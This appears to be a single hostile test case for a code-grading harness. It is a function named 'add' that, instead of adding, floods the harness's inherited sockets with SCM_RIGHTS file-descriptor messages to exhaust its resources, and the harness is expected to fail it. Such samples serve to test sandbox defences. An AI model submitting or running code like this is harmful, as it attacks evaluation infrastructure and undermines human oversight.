# c127 | task=add | required=fail | sends open files over the harness's channel until somebody runs out
import array, os, socket
def add(a, b):
    for fd in range(3, 20):
        try:
            line = socket.socket(fileno=os.dup(fd))
            for _ in range(200):
                line.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 100))])
        except OSError:
            pass
    return None
